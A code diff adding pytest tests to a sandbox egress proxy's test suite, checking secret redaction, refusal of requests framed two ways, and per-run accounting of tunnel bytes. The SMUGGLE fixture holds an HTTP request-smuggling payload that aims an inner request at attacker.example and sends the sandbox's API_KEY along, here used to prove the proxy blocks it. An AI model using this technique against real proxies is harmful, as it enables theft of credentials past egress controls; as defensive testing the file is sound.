@@ -215,6 +215,27 @@ print(json.dumps({{
     assert SECRET_VALUE not in result.to_json()
 
 
+def test_a_value_the_host_echoes_escaped_comes_back_as_the_handle(up: Upstreams, manager: RuntimeManager) -> None:
+    """The upstream echoes headers in JSON, which escapes the value's quote and backslash: matched
+    only as its bytes, the escaped value passed every redaction, for the code to unescape."""
+    from tests.egress_harness import ODD_VALUE
+
+    with Sandbox(allow(up, "api.stockade.test", secrets=("ODD_KEY",)), manager=manager) as sb:
+        out, result = run(
+            sb,
+            f"""
+handle = os.environ["ODD_KEY"]
+status, body = fetch("https://api.stockade.test:{up.https.port}/odd", {{"Authorization": handle}})
+print(body)
+print(json.dumps({{"handle": handle, "status": status, "echoed": json.loads(body)["headers"]["authorization"]}}))
+""",
+        )
+    assert up.https.seen[-1]["authorization"] == f"Bearer {ODD_VALUE}"  # the host got the value
+    assert out["status"] == 200 and out["echoed"] == f"Bearer {out['handle']}"  # the code got its handle back
+    assert json.dumps(ODD_VALUE)[1:-1] not in result.stdout and ODD_VALUE not in result.stdout
+    assert result.secrets_redacted == 2  # type: ignore[attr-defined]  # the body's echo and X-Echo-Authorization
+
+
 def test_no_secret_value_inside_the_isolate_and_what_leaves_it_is_redacted(
     up: Upstreams, manager: RuntimeManager
 ) -> None:
@@ -454,6 +475,39 @@ def test_no_reply_trick_gets_the_value_into_the_isolate(up: Upstreams, manager: 
     seen = up.https.seen[before:]
     assert [s["host"] for s in seen] == [f"api.stockade.test:{up.https.port}"] * 3  # never the fronted origin
     assert all(s["accept-encoding"] == "identity" for s in seen)
+
+
+SMUGGLE = r"""
+import os, socket, ssl
+s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+s.sendall(b"CONNECT api.stockade.test:{port} HTTP/1.1\r\nHost: api.stockade.test\r\n\r\n")
+head = b""
+while b"\r\n\r\n" not in head:
+    head += s.recv(4096)
+t = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(s, server_hostname="api.stockade.test")
+inner = b"GET /collect HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 400\r\n\r\n"
+body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(inner), inner)
+t.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + body)
+t.sendall(b"GET /second HTTP/1.1\r\nHost: x\r\nAuthorization: " + os.environ["API_KEY"].encode() + b"\r\n\r\n")
+reply = b""
+while chunk := t.recv(65536):
+    reply += chunk
+print(reply.split(b"\r\n", 1)[0].decode())
+"""
+
+
+def test_a_request_framed_two_ways_never_reaches_a_bound_host(up: Upstreams, manager: RuntimeManager) -> None:
+    """Content-Length and chunks at once, in the tunnel to a bound host: passed on as it came, a host
+    that went by the length read the chunks as a request of the isolate's own (any Host), which took
+    the proxy's next request, the value filled in, as its body."""
+    before = len(up.https.seen)
+    with Sandbox(allow(up, "api.stockade.test", secrets=("API_KEY",)), manager=manager) as sb:
+        result = sb.run_code(SMUGGLE.format(port=up.https.port))
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout.strip() == "HTTP/1.1 400 Bad Request", result.stdout
+    assert up.https.seen[before:] == []  # not the request, not what its body held, not the one behind it
+    (refused,) = result.egress_requests
+    assert not refused.allowed and refused.reason.startswith("a request framed two ways") and not refused.secrets_used
 
 
 def test_a_bound_host_on_plain_http_gives_back_only_the_handle(up: Upstreams, manager: RuntimeManager) -> None:
@@ -725,3 +779,76 @@ def test_the_next_run_waits_for_the_last_ones_account(
     assert result.stdout.strip() == "403", result.summary()  # type: ignore[attr-defined]
     assert [(r.host, r.allowed) for r in result.egress_requests] == [("other.stockade.test", False)]  # type: ignore[attr-defined]
     assert result.violation_counts == {"network_egress": 1}  # type: ignore[attr-defined]
+
+
+TUNNEL = r"""
+import os, socket, sys, time
+s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+s.sendall(b"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
+head = b""
+while b"\r\n\r\n" not in head:
+    head += s.recv(4096)
+assert head.startswith(b"HTTP/1.1 200"), head
+s.sendall(b"x" * {first})
+if {hold}:
+    while not os.path.exists("/tmp/go"):
+        time.sleep(0.01)
+    s.sendall(b"y" * {later})
+s.close()
+"""
+
+
+def test_a_tunnels_bytes_are_charged_to_the_run_that_moved_them(manager: RuntimeManager) -> None:
+    """Before, a tunnel was recorded only once it closed: the run whose process sent through it
+    and ended was charged nothing (the proxy still reading its last bytes as the account was
+    taken) and the next run all of it; and a tunnel a background process held open was in no
+    run's account."""
+    import socket
+    import threading
+    import time
+
+    got = [0]
+    sink = socket.socket()
+    sink.bind(("127.0.0.1", 0))
+    sink.listen()
+
+    def drain() -> None:
+        while True:
+            try:
+                conn, _ = sink.accept()
+            except OSError:
+                return
+            with conn:
+                while data := conn.recv(1 << 16):
+                    got[0] += len(data)
+
+    threading.Thread(target=drain, daemon=True).start()
+    port = sink.getsockname()[1]
+
+    def received(total: int) -> None:
+        deadline = time.monotonic() + 30
+        while got[0] < total and time.monotonic() < deadline:
+            time.sleep(0.01)
+        assert got[0] == total
+
+    def tunnels(result: object) -> list[tuple[int, bool]]:
+        return [(r.bytes_sent, r.open) for r in result.egress_requests if r.method == "CONNECT"]  # type: ignore[attr-defined]
+
+    policy = Policy(network_policy="allowlist", allowed_hosts=[f"127.0.0.1:{port}"], allowed_cidrs=["127.0.0.0/8"],
+                    timeout_seconds=60)  # fmt: skip
+    try:
+        with Sandbox(policy, manager=manager) as sb:
+            ran = sb.run_code(TUNNEL.format(port=port, first=1 << 20, hold=False, later=0))
+            assert ran.exit_code == 0, ran.stderr
+            assert tunnels(ran) == [(1 << 20, False)], ran.egress_requests  # all of it, in the run that sent it
+            assert tunnels(sb.run_code("print(1)")) == []
+            sb.write_file("/tmp/held.py", TUNNEL.format(port=port, first=100_000, hold=True, later=50_000))
+            held = sb.spawn(["python3", "/tmp/held.py"])
+            received((1 << 20) + 100_000)
+            assert tunnels(sb.run_code("print(2)")) == [(100_000, True)]  # held open, beside this run
+            sb.write_file("/tmp/go", "")
+            assert held.wait(timeout=30) == 0
+            received((1 << 20) + 150_000)
+            assert tunnels(sb.run_code("print(3)")) == [(50_000, False)]  # the rest, once
+    finally:
+        sink.close()
